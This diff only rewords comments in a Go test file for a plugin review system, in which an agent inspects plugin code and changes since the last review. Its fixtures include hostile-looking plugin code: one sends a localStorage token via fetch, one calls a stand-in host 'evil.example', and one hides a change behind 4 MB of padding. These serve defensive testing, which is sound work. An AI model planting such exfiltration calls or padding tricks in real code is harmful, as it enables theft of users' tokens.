@@ -16,7 +16,7 @@ import (
 	"opentabs/wire"
 )
 
-// testPolicy is a policy over plugins that a test can change.
+// testPolicy is a policy with plugins that a test can change.
 type testPolicy struct {
 	t      *testing.T
 	dir    string
@@ -34,7 +34,7 @@ func newTestPolicy(t *testing.T, packages ...plugintest.Package) *testPolicy {
 
 func (w *testPolicy) Set() *plugin.Set { return w.set }
 
-// load replaces the plugins of the test.
+// load replaces all plugins of the test with the given packages.
 func (w *testPolicy) load(packages ...plugintest.Package) {
 	w.t.Helper()
 	var plugins []*plugin.Plugin
@@ -59,7 +59,7 @@ func (w *testPolicy) inspect(name string) (*inspection.Inspection, error) {
 	return inspection.Inspect(w.policy, w.set, settings.New(w.dir, settings.Options{}), name)
 }
 
-// twoToolPackage is a package with two tools.
+// twoToolPackage returns a package with the tools read and send.
 func twoToolPackage(name, code string) plugintest.Package {
 	return plugintest.Package{Name: name, Code: code, Tools: []plugintest.Tool{
 		{Name: "read", Description: "Reads."}, {Name: "send", Description: "Sends."},
@@ -82,8 +82,8 @@ func mailPackage(own string) plugintest.Package {
 	return p
 }
 
-// An agent receives the author's own code in pages of readable size, without the
-// libraries, which are much larger.
+// An agent receives the author's own code in pages of readable size, without the much
+// larger libraries.
 func TestInspectionIsReadable(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var send = () => fetch('/send', { body: localStorage.token });\n"))
 	inspected, err := w.inspect("mail")
@@ -126,8 +126,8 @@ func TestInspectionIsReadable(t *testing.T) {
 	}
 }
 
-// Changes since the last review are shown as a diff of the author's code. In the
-// changes of an inspection, changed libraries are shown by their hashes.
+// The changes since the last review are a diff of the author's code. For changed
+// libraries, the diff shows only their hashes.
 func TestChangesSinceReview(t *testing.T) {
 	const oldCode, now = "  var send = () => 1;\n", "  var send = () => fetch('https://evil.example');\n"
 	w := newTestPolicy(t, mailPackage(oldCode))
@@ -170,8 +170,8 @@ func TestChangesSinceReview(t *testing.T) {
 	}
 }
 
-// A change beyond the stored part of a large file appears in the changes of the
-// inspection.
+// A change beyond the stored part of a large file appears among the changes since the
+// last review.
 func TestChangeBeyondStoredPart(t *testing.T) {
 	padding := "  /*" + strings.Repeat("x", 4<<20) + "*/\n"
 	w := newTestPolicy(t, mailPackage(padding+"  var send = () => 1;\n"))
@@ -184,7 +184,7 @@ func TestChangeBeyondStoredPart(t *testing.T) {
 	}
 }
 
-// A token is valid once, for one content of one plugin, for 10 minutes.
+// A review token is valid once, for one content of one plugin, for 10 minutes.
 func TestReviewTokens(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var a;\n"), twoToolPackage("chat", ""))
 	inspect := func(name string) *inspection.Inspection {
@@ -234,8 +234,8 @@ func TestReviewTokens(t *testing.T) {
 
 func errorOf[T any](_ T, err error) error { return err }
 
-// A recommendation of an agent does not enable the plugin. A recommendation applies
-// only to the inspected content and ends when the user decides about the plugin.
+// A recommendation of an agent does not enable the plugin. A recommendation applies only
+// to the inspected content, and ends when the user decides about the plugin.
 func TestRecommendationChangesNothing(t *testing.T) {
 	w := newTestPolicy(t, mailPackage("  var a;\n"))
 	mailPlugin, _ := w.Set().Plugin("mail")
@@ -306,8 +306,8 @@ func TestInspectionGroupsTools(t *testing.T) {
 	}
 }
 
-// TestReviewText checks that a review always shows the changes, and the code only on
-// request.
+// TestReviewText checks that a review always shows the changes, but shows the code only
+// on request.
 func TestReviewText(t *testing.T) {
 	long := strings.Repeat("const line = 1;\n", 10_000)
 	w := newTestPolicy(t, twoToolPackage("a", "first();\n"))
